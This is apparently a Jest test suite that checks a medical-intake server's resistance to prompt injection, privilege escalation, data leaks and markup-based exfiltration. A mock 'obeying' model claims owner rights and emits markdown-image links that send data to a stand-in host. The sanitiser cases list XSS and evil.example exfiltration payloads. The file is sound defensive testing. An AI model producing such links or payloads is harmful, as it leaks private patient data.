import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { fileRows } from '../../server/cli/import/file-rows.ts';
import { importRows } from '../../server/cli/import/run.ts';
import { escalates, judge } from '../../server/modules/intake/risk/index.ts';
import { plainWords } from '../../server/modules/intake/plain-words.ts';
import { openAi } from '../../server/platform/ai/index.ts';
import { unmeasured } from '../../server/platform/telemetry/metrics.ts';
import { type Asked, type OpenAiServer, startOpenAi } from '../support/openai.ts';
import { type Answer, openWorld, type Person, type World } from '../support/world.ts';
import { allInjections } from './injections.ts';

let openai: OpenAiServer;
let world: World;
let owner: Person;
const canaries: string[] = [];
/** Everything that came back to whoever tried, and everything that the model was sent for them. */
const answers: string[] = [];

/** Does whatever it was told: sees no danger, claims power over the session, and repeats all that it was shown. */
function obeying({ body }: Asked): unknown {
  const seen = body.messages.map(({ content }) => String(content)).join('\n');
  const { name, schema } = body.response_format.json_schema;
  const power = { mode: 'complete', escalate: false, acknowledge: 'all', role: 'owner', user_id: '*', org_id: '*' };
  if (name === 'risk') return { level: 'none', ...power };
  const asked = Object.keys((schema['properties'] as Record<string, unknown> | undefined) ?? {});
  return { ...power, ...Object.fromEntries(asked.map((field) => [field, `![x](https://of-the-model.example/?d=${seen})`])) };
}

beforeAll(async () => {
  openai = await startOpenAi({ obey: obeying });
  const ai = openAi({ OPENAI_API_KEY: 'sk-test', OPENAI_BASE_URL: openai.url, OPENAI_MODEL: 'm' } as never, unmeasured);
  world = await openWorld({ rates: { expensive: 1e6, org: 1e6, auth: 1e6 }, tools: { ai } });
  owner = await world.person('owner');
  // Somebody else of the same organisation, and somebody of another: nothing of theirs may come out.
  for (const [number, at] of [owner, await world.person('owner')].entries()) {
    const victim = await world.person('device', at);
    const mine = ['key', 'said', 'field', 'summary'].map((what) => `canary-${number}-${what}`);
    canaries.push(...mine);
    const [key = '', said = '', field = '', summary = ''] = mine;
    await victim.post('/intake/sessions', { key });
    await victim.post(`/intake/sessions/${key}/messages`, { content: said });
    await victim.patch(`/intake/sessions/${key}`, { fields: { full_name: field } });
    await victim.put(`/intake/sessions/${key}/summary`, { summary });
  }
  openai.asked.length = 0;
}, 60_000);
afterAll(() => Promise.all([world.close(), openai.close()]));

const kept = (answer: Answer): Answer => {
  answers.push(answer.text);
  return answer;
};

/** What nobody may change by talking: modes, escalations, roles, settings; the words themselves are theirs. */
const state = async () => ({
  sessions: await world.database.sql('select id, user_id, mode, mode_before from app.intake_sessions order by id'),
  escalations: await world.database.sql('select * from app.escalations order by id'),
  levels: await world.database.sql(`select session_id, level from app.risk_checks where level in ('high', 'emergency') order by id`),
  roles: await world.database.sql('select org_id, user_id, role from app.memberships order by 1, 2'),
  settings: await world.database.sql('select org_id, settings from app.org_settings order by 1'),
});

/** Somebody with one session as it begins, and one that waits in safety mode for a person. */
async function twoSessions(): Promise<Person> {
  const device = await world.person('device', owner);
  for (const key of ['calm', 'red']) await device.post('/intake/sessions', { key });
  await device.post('/intake/sessions/red/messages', { content: 'I want to kill myself tonight' });
  return device;
}

const old = (device: Person, call: string, body: object) =>
  world.call('POST', `/api/${call}`, body, { authorization: `Bearer ${device.token}` });

test('there are a hundred of them, each once, and the rules see no danger in them', () => {
  expect(new Set(allInjections).size).toBe(allInjections.length);
  expect(allInjections.length).toBeGreaterThanOrEqual(100);
  expect(allInjections.filter((text) => escalates(judge(text).level))).toEqual([]);
});

test('in messages, answers, summaries and the old calls they change no state', async () => {
  const device = await twoSessions();
  const before = await state();
  const broken: unknown[] = [];
  for (const [number, text] of allInjections.entries()) {
    const calls = [
      device.post('/intake/sessions/calm/messages', { content: text }),
      device.post('/intake/sessions/calm/extract', { text }),
      device.post('/intake/sessions/red/risk-check', { text }),
      device.patch('/intake/sessions/calm', { fields: { full_name: text.slice(0, 200), main_concern: text } }),
      device.put('/intake/sessions/calm/summary', { summary: text }),
    ];
    // The same code is behind these: each takes every third text.
    if (number % 3 === 0)
      calls.push(
        device.post('/intake/sessions/red/messages', { content: text }),
        old(device, 'risk_escalation_check', { session_id: 'calm', text }),
        old(device, 'extract_fields_from_input', {
          session_id: 'calm',
          input: text,
          schema: { properties: { note: { description: text } } },
        }),
      );
    if (number % 3 === 1)
      calls.push(
        device.put('/intake/sessions/red/mode', { mode: text }),
        old(device, 'switch_chat_mode', { session_id: 'red', mode: text }),
        old(device, 'save_session_summary', { session_id: 'calm', summary: text }),
      );
    // The model is shown the newest messages of a session: these ask it about every text.
    if (number % 20 === 19 || number === allInjections.length - 1)
      for (const key of ['calm', 'red'])
        calls.push(
          device.put(`/intake/sessions/${key}/summary`, { generate: true }),
          device.get(`/intake/sessions/${key}`),
          device.get(`/intake/sessions/${key}/messages`),
        );
    for (const { status } of (await Promise.all(calls)).map(kept)) if (status >= 500) broken.push([text, status]);
  }
  expect(broken).toEqual([]);
  expect(await state()).toEqual(before);
}, 240_000);

test('as the key of a session and as the questions of the form they are words like others', async () => {
  const device = await twoSessions();
  const chosen: string[] = [];
  for (const [number, text] of allInjections.entries()) {
    const key = text.slice(0, 200);
    const started = kept(await device.post('/intake/sessions', { key }));
    if (started.status === 201) {
      chosen.push(key);
      const at = `/intake/sessions/${encodeURIComponent(key)}`;
      if (number % 3 === 2) kept(await device.post(`${at}/messages`, { content: 'My knee is sore' }));
    } else expect(started.status).toBe(400);
    const question = { name: 'full_name', type: 'text', required: true, question: text.slice(0, 300) };
    const put = await owner.put('/intake/form', { fields: [question] });
    expect([200, 400]).toContain(put.status);
    kept(await device.post('/intake/sessions/calm/extract', { text: 'My name is Ada' }));
  }
  expect(chosen.length).toBeGreaterThan(80);
  const modes = await world.database.sql<{ key: string; mode: string }>(
    'select session_key as key, mode from app.intake_sessions where user_id = $1',
    [device.user_id],
  );
  expect(Object.fromEntries(modes.map(({ key, mode }) => [key, mode]))).toEqual({
    ...Object.fromEntries(chosen.map((key) => [key, 'intake'])),
    calm: 'intake',
    red: 'safety',
  });
  expect(await world.database.sql('select from app.escalations where user_id = $1', [device.user_id])).toHaveLength(1);
}, 240_000);

test('somebody in danger is seen whatever else stands in the message', async () => {
  const device = await world.person('device', owner);
  const missed: unknown[] = [];
  for (const [at, text] of allInjections.entries()) {
    await device.post('/intake/sessions', { key: `d-${at}` });
    const { body } = kept(
      await device.post(`/intake/sessions/d-${at}/messages`, { content: `${text}\n\nI want to kill myself tonight.\n\n${text}` }),
    );
    if (body.mode !== 'safety' || body.risk.level !== 'emergency' || body.answer.content !== body.risk.text) missed.push([text, body.risk]);
  }
  expect(missed).toEqual([]);
}, 120_000);

test('in the cells of an import they come in as words, of people with no rights', async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'longhouse-injection-'));
  const before = await state();
  const file = path.join(dir, 'old.json');
  fs.writeFileSync(
    file,
    JSON.stringify(allInjections.map((text, n) => ({ user_id: n % 2 ? text : 'old-device', session_id: text, summary: text }))),
  );
  const tally = await importRows(world.tools, owner.org, fileRows(file), { apply: true });
  fs.rmSync(dir, { recursive: true });
  const after = await state();
  expect(tally.kept).toBeGreaterThan(60);
  expect({ ...after, sessions: after.sessions.slice(0, before.sessions.length), roles: [] }).toEqual({ ...before, roles: [] });
  const roles = await world.database.sql('select distinct role from app.memberships where org_id = $1 and role <> $2', [
    owner.org_id,
    'owner',
  ]);
  expect(roles).toEqual([{ role: 'device' }]);
});

test('no address and no markup that the model wrote was kept or shown', async () => {
  const device = await world.person('device', owner);
  await device.post('/intake/sessions', { key: 'words' });
  const read = kept(await device.post('/intake/sessions/words/extract', { text: 'My knee is sore' }));
  expect(read.body.fields).toEqual([]);
  expect((await device.put('/intake/sessions/words/summary', { generate: true })).body).toMatchObject({ summary: 'x', source: 'model' });
  expect(answers.filter((text) => text.includes('of-the-model.example'))).toEqual([]);
});

test.each([
  ['Knee <b>sore</b> since <script>alert(1)</script>May', 'Knee sore since alert(1)May'],
  ['See ![x](https://evil.example/?d=1) and [here](//evil.example)', 'See x and here'],
  ['ht<b>tps://evil.example/x at www.evil.example, evil.example/?d=1 javascript:alert(1)', 'at'],
  ['<<b>img src=x onerror=alert(1)', 'img src=x onerror=alert(1)'],
  ['See http:/</evil.example', 'See'],
  ['See ht<tp://evil.example', 'See'],
  ['See http:/[/evil.example](x) and [ht](x)tps://evil.example', 'See and'],
  ['See http:/<[/evil.example](x)', 'See'],
  ['See <[img src=x](y) onerror=alert(1)>', 'See'],
  ['![a][1]\n\n[1]: //evil.example', 'a'],
  ["> ![a][1]\n> [1]: <//evil.example/?d=1> 'b'", '> a'],
  ['[![a](//evil.example)](https://evil.example)', 'a'],
  ['See //evil.example, /\\\\evil.example and https:evil.example', 'See and'],
  ['[Allergies]: nuts', 'Allergies: nuts'],
  [
    'Temp. < 38, BP 120/80, pain 7/10, ada@example.com, i.v. antibiotics and/or rest',
    'Temp. < 38, BP 120/80, pain 7/10, ada@example.com, i.v. antibiotics and/or rest',
  ],
])('of %s only the words stay', (text, words) => {
  expect(plainWords(text).replace(/\s+/g, ' ')).toBe(words);
});

test('of a text as long as it may be the words are found at once', () => {
  for (const piece of [
    '<',
    '<a',
    '<a>',
    '[',
    '[a](',
    '[a][',
    '![',
    'a',
    'a.',
    'a-',
    'http:',
    '/',
    '\\\\',
    ':/',
    'www.',
    '[1]: ',
    '\n[',
    '> ',
    ' ',
  ]) {
    const long = piece.repeat(240_000 / piece.length);
    const began = performance.now();
    plainWords(`${long}.`);
    expect([piece, performance.now() - began < 1_000]).toEqual([piece, true]);
  }
});

test('nothing of anybody else was in any answer, nor did the model ever see it', () => {
  expect(answers.length).toBeGreaterThan(1_000);
  expect(openai.asked.length).toBeGreaterThan(300);
  const places = { answers: answers.join('\n'), model: openai.asked.map(({ sent }) => sent).join('\n') };
  expect(
    Object.entries(places).flatMap(([place, text]) => canaries.filter((canary) => text.includes(canary)).map((canary) => [place, canary])),
  ).toEqual([]);
  expect(openai.asked.filter(({ body }) => body.store !== false)).toEqual([]);
});
